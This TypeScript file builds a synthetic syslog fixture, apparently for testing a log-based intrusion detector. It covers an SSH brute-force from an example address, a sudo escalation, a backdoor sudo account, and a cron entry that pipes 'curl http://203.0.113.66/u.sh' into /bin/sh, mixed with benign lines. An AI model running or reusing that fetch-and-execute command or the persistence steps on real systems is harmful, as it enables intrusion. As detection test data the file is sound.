/** One recorded line: when (milliseconds after the first), on which host, by which program, and what it said. */
export interface SampleLine {
  readonly at: number
  readonly priority: number
  readonly host: string
  readonly program: string
  readonly pid: number
  readonly message: string
}

const auth = 38
const authpriv = 86
const sudoPriority = 85
const cron = 78

/** The attacker's address, of the range that RFC 5737 sets aside for examples. */
const attacker = '203.0.113.66'

function line(at: number, priority: number, host: string, program: string, pid: number, message: string): SampleLine {
  return { at, priority, host, program, pid, message }
}

/** A stranger tries names and passwords, several a second. */
function bruteForce(): SampleLine[] {
  const names = ['admin', 'root', 'test', 'oracle', 'ubuntu', 'postgres', 'git', 'ketoan', 'vanthu', 'quantri']
  const out: SampleLine[] = []
  for (let i = 0; i < 40; i++) {
    const name = names[i % names.length] ?? 'root'
    const who = name === 'root' ? 'root' : `invalid user ${name}`
    const pid = 21_000 + i
    const port = 40_100 + 7 * i
    const at = 300 + i * 220
    if (name !== 'root')
      out.push(line(at - 60, auth, 'bastion-01', 'sshd', pid, `Invalid user ${name} from ${attacker} port ${port}`))
    out.push(line(at, auth, 'bastion-01', 'sshd', pid, `Failed password for ${who} from ${attacker} port ${port} ssh2`))
    out.push(
      line(
        at + 40,
        auth,
        'bastion-01',
        'sshd',
        pid,
        `Connection closed by ${name === 'root' ? 'authenticating user root' : who} ${attacker} port ${port} [preauth]`,
      ),
    )
  }
  for (let i = 0; i < 6; i++) {
    out.push(
      line(
        9300 + i * 250,
        auth,
        'bastion-01',
        'sshd',
        21_100 + i,
        `Failed password for tuan.le from ${attacker} port ${41_000 + i} ssh2`,
      ),
    )
  }
  return out
}

/** One guess was right; what follows is how such a night goes on. */
const intrusion: readonly SampleLine[] = [
  line(11_200, auth, 'bastion-01', 'sshd', 21_110, `Accepted password for tuan.le from ${attacker} port 41010 ssh2`),
  line(
    11_220,
    authpriv,
    'bastion-01',
    'sshd',
    21_110,
    'pam_unix(sshd:session): session opened for user tuan.le(uid=1004) by (uid=0)',
  ),
  line(
    11_240,
    auth,
    'bastion-01',
    'systemd-logind',
    612,
    "New session '418' of user 'tuan.le' with class 'user' and type 'tty'.",
  ),
  line(
    13_500,
    sudoPriority,
    'bastion-01',
    'sudo',
    21_180,
    ' tuan.le : 1 incorrect password attempt ; TTY=pts/2 ; PWD=/home/tuan.le ; USER=root ; COMMAND=/bin/bash',
  ),
  line(
    15_800,
    sudoPriority,
    'bastion-01',
    'sudo',
    21_190,
    ' tuan.le : TTY=pts/2 ; PWD=/home/tuan.le ; USER=root ; COMMAND=/bin/bash',
  ),
  line(
    15_820,
    authpriv,
    'bastion-01',
    'sudo',
    21_190,
    'pam_unix(sudo:session): session opened for user root(uid=0) by tuan.le(uid=1004)',
  ),
  line(18_000, authpriv, 'bastion-01', 'useradd', 21_240, 'new group: name=svc-backup, GID=1011'),
  line(
    18_010,
    authpriv,
    'bastion-01',
    'useradd',
    21_240,
    'new user: name=svc-backup, UID=1011, GID=1011, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/2',
  ),
  line(19_400, authpriv, 'bastion-01', 'passwd', 21_255, 'pam_unix(passwd:chauthtok): password changed for svc-backup'),
  line(20_600, authpriv, 'bastion-01', 'usermod', 21_260, "add 'svc-backup' to group 'sudo'"),
  line(20_610, authpriv, 'bastion-01', 'usermod', 21_260, "add 'svc-backup' to shadow group 'sudo'"),
  line(22_500, cron, 'bastion-01', 'crontab', 21_301, '(root) REPLACE (root)'),
  line(25_000, cron, 'bastion-01', 'CRON', 21_330, `(root) CMD (/usr/bin/curl -fsS http://${attacker}/u.sh | /bin/sh)`),
  line(28_000, authpriv, 'bastion-01', 'sshd', 21_110, 'pam_unix(sshd:session): session closed for user tuan.le'),
  line(28_010, auth, 'bastion-01', 'sshd', 21_112, `Disconnected from user tuan.le ${attacker} port 41010`),
  line(28_020, auth, 'bastion-01', 'systemd-logind', 612, 'Removed session 418.'),
]

/** An ordinary evening on the other machines, which must raise nothing. */
const everyday: readonly SampleLine[] = [
  line(0, cron, 'web-01', 'CRON', 8801, '(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)'),
  line(
    1500,
    auth,
    'mail-01',
    'sshd',
    5012,
    'Accepted publickey for an.nguyen from 10.10.8.21 port 52110 ssh2: ED25519 SHA256:pXb1Vq0u5yJq0rYxw6mS7mQe',
  ),
  line(
    1520,
    authpriv,
    'mail-01',
    'sshd',
    5012,
    'pam_unix(sshd:session): session opened for user an.nguyen(uid=1001) by (uid=0)',
  ),
  line(
    4200,
    sudoPriority,
    'mail-01',
    'sudo',
    5040,
    'an.nguyen : TTY=pts/0 ; PWD=/home/an.nguyen ; USER=root ; COMMAND=/usr/bin/systemctl status postfix',
  ),
  line(7000, auth, 'ketoan-01', 'sshd', 3307, 'Failed password for binh.tran from 10.20.4.15 port 50222 ssh2'),
  line(8400, auth, 'ketoan-01', 'sshd', 3307, 'Accepted password for binh.tran from 10.20.4.15 port 50222 ssh2'),
  line(12_000, cron, 'ketoan-01', 'CRON', 3340, '(backup) CMD (/usr/local/bin/sao-luu.sh)'),
  line(16_500, authpriv, 'mail-01', 'sshd', 5012, 'pam_unix(sshd:session): session closed for user an.nguyen'),
  line(24_000, cron, 'web-01', 'CRON', 8840, '(www-data) CMD (/usr/bin/php /srv/cong/cron.php)'),
]

/** A recorded attack on an invented province, and the ordinary lines around it; in order of time. */
export const sampleAttack: readonly SampleLine[] = [...bruteForce(), ...intrusion, ...everyday].sort(
  (a, b) => a.at - b.at,
)
